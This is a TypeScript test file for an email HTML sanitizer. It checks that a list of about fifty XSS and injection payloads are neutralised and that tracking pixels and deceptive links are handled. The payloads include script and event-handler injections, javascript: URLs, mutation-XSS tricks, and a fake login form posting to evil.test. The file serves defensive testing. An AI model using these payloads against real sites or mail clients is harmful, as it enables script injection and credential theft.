import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { sanitizeMailHtml } from "@/server/mail/reading/sanitize";

const sanitize = (html: string, cids: [string, string][] = []) =>
  sanitizeMailHtml(html, new Map(cids)) ?? "";

/** Each tries to run or to load something when an agent opens the mail. */
const payloads = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.test/x.js></ScRiPt>",
  "<img src=x onerror=alert(1)>",
  "<img src='javascript:alert(1)'>",
  "<img/src=`x`/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='//evil.test'>x</a>",
  "<iframe src='https://evil.test'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='https://evil.test/x.swf'></object>",
  "<embed src='https://evil.test/x.swf'>",
  "<form action='https://evil.test'><input name=password><button>Sign in</button></form>",
  "<base href='https://evil.test/'>",
  "<meta http-equiv='refresh' content='0;url=https://evil.test'>",
  "<link rel=stylesheet href='https://evil.test/x.css'>",
  "<style>@import url(https://evil.test/x.css); body{background:url(https://evil.test/y)}</style>",
  "<div style='background:url(https://evil.test/x)'>x</div>",
  "<div style='background-image:url(https://evil.test/x)'>x</div>",
  "<div style='width:expression(alert(1))'>x</div>",
  "<div style='behavior:url(#x)'>x</div>",
  "<div style='-moz-binding:url(https://evil.test/x)'>x</div>",
  "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
  "<body onload=alert(1)>x</body>",
  "<video><source onerror=alert(1)></video>",
  "<video poster='https://evil.test/x'></video>",
  "<audio src='https://evil.test/x'></audio>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<input autofocus onfocus=alert(1)>",
  "<table background='https://evil.test/x'><tr><td background='https://evil.test/y'>x</td></tr></table>",
  "<img srcset='https://evil.test/x 1x' src='https://evil.test/y'>",
  "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<p><a href='https://ok.test' onmouseover=alert(1)>x</a></p>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<template><script>alert(1)</script></template>",
  "<a href='https://ok.test' target='_self' rel='opener'>x</a>",
  "<img src='cid:unknown'>",
  "<div id=location name=cookie class=fixed>x</div>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<x onclick=alert(1)>x</x>",
  "\u0000<scr\u0000ipt>alert(1)</script>",
];

const harmlessNames =
  /^(style|dir|lang|align|valign|width|height|href|title|rel|target|src|data-remote-src|alt|color|size|face|bgcolor|border|cellpadding|cellspacing|colspan|rowspan|span|start|type)$/;
const activeTags =
  /^(script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math|video|audio|template|textarea)$/;

/** What may never be in the result, whatever went in. Its attributes are always in double quotes. */
function expectHarmless(html: string): void {
  for (const [, tag = "", inside = ""] of html.matchAll(
    /<([a-z][^\s/>]*)((?:"[^"]*"|[^">])*)>/gi,
  )) {
    expect(tag.toLowerCase()).not.toMatch(activeTags);
    for (const [, name = "", value = ""] of inside.matchAll(/([^\s=/>"]+)="([^"]*)"/g)) {
      expect(name).toMatch(harmlessNames);
      if (name === "href") expect(value).toMatch(/^(https?:|mailto:|tel:|[^:]*$)/i);
      if (name === "src") expect(value).toMatch(/^(cid:|data:image\/(png|jpe?g|gif|webp);)/i);
      if (name === "style")
        expect(value).not.toMatch(/url\(|expression|position|behavior|binding/i);
    }
  }
}

describe("sanitizeMailHtml", () => {
  test.each(payloads)("makes %j harmless", (payload) => {
    expectHarmless(sanitize(payload));
    expectHarmless(sanitize(`<table><tr><td>${payload}</td></tr></table>`));
    expectHarmless(sanitize(`<div title="${payload}">${payload}</div>`));
  });

  test("stays harmless for payloads cut and joined at random", () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.constantFrom(...payloads), fc.nat(60), fc.nat(60)), { maxLength: 5 }),
        (pieces) => {
          const html = pieces
            .map(([payload, from, to]) => payload.slice(from % 7, to + 7))
            .join("");
          expectHarmless(sanitize(html));
        },
      ),
      { numRuns: 500 },
    );
  });

  test("keeps what a letter is made of", () => {
    const html =
      '<p style="color:#333;margin:0 0 8px">Hello <b>there</b>, see <a href="https://acme.test/x?a=1&amp;b=2">this</a>.</p>' +
      '<table cellpadding="4"><tr><td style="border:1px solid #ccc">1</td></tr></table><ul><li>one</li></ul>';
    const safe = sanitize(html);
    expect(safe).toContain("<b>there</b>");
    expect(safe).toContain("color:#333;margin:0 0 8px");
    expect(safe).toContain('href="https://acme.test/x?a=1&amp;b=2"');
    expect(safe).toContain('rel="noopener noreferrer nofollow"');
    expect(safe).toContain('target="_blank"');
    expect(safe).toContain("<li>one</li>");
  });

  test("keeps the ground and ink of the page that a mail was written on", () => {
    const dark = sanitize('<html><body bgcolor="#111111" text="#eee"><p>Hi</p></body></html>');
    expect(dark).toBe('<div style="background-color:#111111;color:#eee"><p>Hi</p></div>');
    const odd = sanitize('<body bgcolor="red;position:fixed" style="background:url(x)">Hi</body>');
    expect(odd).toBe('<div style="background-color:red">Hi</div>');
    expect(sanitize('<body style="margin:0"><p>Hi</p></body>')).toBe("<p>Hi</p>");
  });

  test("points inline images to their attachment and keeps remote ones from loading", () => {
    const html = '<img src="cid:logo@x" alt="Logo"><img src="https://track.test/p.gif">';
    const safe = sanitize(html, [["logo@x", "0192-attachment"]]);
    expect(safe).toContain('src="cid:0192-attachment"');
    expect(safe).toContain('data-remote-src="https://track.test/p.gif"');
    expect(safe).not.toContain(' src="https://');
  });

  test("a link says its real host, above all where its words name another", () => {
    const safe = sanitize(
      '<a href="https://evil.test/login" title="bank.test">www.bank.test/login</a> <a href="https://www.acme.test/x">acme.test</a> <a href="https://evil.test">Click here</a> <a href="mailto:a@b.test">a@b.test</a>',
    );
    expect(safe).toContain(">www.bank.test/login [evil.test]</a>");
    expect(safe).toContain(">acme.test</a>");
    expect(safe).toContain(">Click here</a>");
    expect(safe).toContain('title="evil.test"');
    expect(safe).not.toContain('title="bank.test"');
    expect(safe).toContain('<a href="mailto:a@b.test"');
  });

  test.each([
    "<div>",
    "<b>x",
    "<p>",
    "<table><tr><td>",
    "<blockquote>x",
    "<b><i></b></i>",
    "<a b=c ",
  ])("a megabyte of %j costs about as much as eight eighths of it", (piece) => {
    const cost = (length: number) => {
      const before = process.cpuUsage();
      sanitizeMailHtml(piece.repeat(Math.ceil(length / piece.length)), new Map());
      return process.cpuUsage(before).user / 1000;
    };
    const long = cost(1_000_000);
    if (long > 500) expect(long / Math.max(cost(125_000), 20)).toBeLessThan(30);
  });

  test("answers null when nothing is left or it is too long", () => {
    expect(sanitizeMailHtml("<script>x</script>", new Map())).toBeNull();
    expect(sanitizeMailHtml(`<p>${"x".repeat(600_000)}</p>`, new Map())).toBeNull();
  });
});
